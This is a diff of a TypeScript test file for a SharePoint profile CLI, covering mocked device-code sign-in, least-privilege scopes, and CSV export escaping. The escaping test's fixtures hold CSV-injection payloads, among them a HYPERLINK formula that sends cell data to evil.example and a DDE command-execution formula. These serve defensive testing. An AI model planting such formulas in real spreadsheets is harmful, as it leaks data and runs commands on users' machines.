@@ -7,7 +7,28 @@ import type { CliIo } from "../../src/cli/context";
 import { createCliTokenProvider, TOKEN_ENV } from "../../src/cli/graph-auth";
 import { parseProfileFile } from "../../src/profiles/file-source";
 import { GraphStandIn } from "../helpers/graph-stand-in";
+import { seedList } from "../profiles/graph-fixtures";
 import { ROOT } from "./spawn";
+
+/** Scopes asked for by device-code sign-ins (msal-node replaced: no tenant here). */
+const mockScopes: string[][] = [];
+let mockToken = "";
+jest.mock("@azure/msal-node", () => ({
+  PublicClientApplication: class {
+    async acquireTokenByDeviceCode(request: {
+      scopes: string[];
+      deviceCodeCallback: (r: { message: string }) => void;
+    }) {
+      mockScopes.push(request.scopes);
+      request.deviceCodeCallback({ message: "To sign in, enter the code ABCD-1234." });
+      return { accessToken: mockToken, account: { homeAccountId: "admin" } };
+    }
+    async acquireTokenSilent(request: { scopes: string[] }) {
+      mockScopes.push(request.scopes);
+      return { accessToken: mockToken, account: { homeAccountId: "admin" } };
+    }
+  },
+}));
 
 jest.setTimeout(30_000);
 
@@ -319,6 +340,99 @@ describe("device-code sign-in", () => {
     expect(result.code).toBe(2);
     expect(result.err).toMatch(/--client-id/);
     expect(result.err).toMatch(/RAPPORT_GRAPH_TOKEN/);
+  });
+});
+
+describe("CSV export: formula escaping that import reverses exactly", () => {
+  const HOSTILE = [
+    {
+      matchKey: "@evil.example",
+      title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+      clientName: "+44 20 7946 0000",
+      preferredName: "-Minus",
+      fullName: "@SUM(1+1)",
+      competitors: ["=cmd|' /C calc'!A0", "Pepsi"],
+      notes: "'=already quoted",
+      statusUpdates: "'plain apostrophe",
+    },
+  ];
+
+  it("writes values that would run as formulas escaped, and re-import restores them byte for byte", async () => {
+    const dir = temp();
+    const source = join(dir, "hostile.json");
+    writeFileSync(source, JSON.stringify(HOSTILE));
+    expect((await run(["provision", ...site()])).code).toBe(0);
+    expect((await run(["import", SAMPLES, ...site()])).code).toBe(0);
+    expect((await run(["import", source, ...site()])).code).toBe(0);
+
+    const first = join(dir, "first.csv");
+    expect((await run(["export", first, ...site()])).code).toBe(0);
+    const csv = readFileSync(first, "utf8");
+    const evil = csv.split("\n").find((line) => line.includes("@evil.example"))!;
+    // Every cell that starts with =, +, - or @ (or an apostrophe before one) gains an apostrophe.
+    expect(evil).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`);
+    expect(evil).toContain(",'+44 20 7946 0000,");
+    expect(evil).toContain(",'-Minus,");
+    expect(evil).toContain(",'@SUM(1+1),");
+    expect(evil).toContain("'=cmd|' /C calc'!A0; Pepsi");
+    expect(evil).toContain(",''=already quoted");
+    expect(evil).toContain(",'plain apostrophe");
+    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
+
+    // Into a fresh list, and out again: the same bytes; the values as they were written.
+    const otherList = [
+      "--site",
+      standIn.siteUrl,
+      "--list",
+      "Copy",
+      "--graph-base-url",
+      standIn.baseUrl,
+    ];
+    expect((await run(["provision", ...otherList])).code).toBe(0);
+    expect((await run(["import", first, ...otherList])).code).toBe(0);
+    const second = join(dir, "second.csv");
+    expect((await run(["export", second, ...otherList])).code).toBe(0);
+    expect(readFileSync(second)).toEqual(readFileSync(first));
+    const back = parseProfileFile(csv, first).profiles.find((p) => p.matchKey === "@evil.example")!;
+    expect(back).toMatchObject({
+      title: HOSTILE[0]!.title,
+      clientName: "+44 20 7946 0000",
+      preferredName: "-Minus",
+      fullName: "@SUM(1+1)",
+      competitors: ["=cmd|' /C calc'!A0", "Pepsi"],
+      notes: "'=already quoted",
+      statusUpdates: "'plain apostrophe",
+    });
+
+    // Re-importing the export into the list it came from changes nothing.
+    const again = await run(["import", first, ...site()]);
+    expect(again.out).toContain("0 created, 0 updated, 7 unchanged");
+  });
+});
+
+describe("least privilege at the command line", () => {
+  it.each([
+    [["export"], false, "Sites.Read.All"],
+    [["check", "examples/drafts/fedex-to-ups.eml"], false, "Sites.Read.All"],
+    [["import", "assets/sample-profiles.json"], false, "Sites.ReadWrite.All"],
+    [["provision"], false, "Sites.Manage.All"],
+    [["export"], true, "Sites.Selected"],
+    [["import", "assets/sample-profiles.json"], true, "Sites.Selected"],
+    [["provision"], true, "Sites.Manage.All"],
+  ])("%j (Sites.Selected: %s) signs in for %s only", async (args, selected, scope) => {
+    delete process.env[TOKEN_ENV];
+    seedList(standIn);
+    mockToken = standIn.token;
+    mockScopes.length = 0;
+    const result = await run([
+      ...args.map((a) => (a.includes("/") ? join(ROOT, a) : a)),
+      ...site(),
+      "--client-id",
+      "11111111-2222-3333-4444-555555555555",
+      ...(selected ? ["--sites-selected"] : []),
+    ]);
+    expect([0, 1]).toContain(result.code);
+    expect(new Set(mockScopes.flat())).toEqual(new Set([scope]));
   });
 });
 
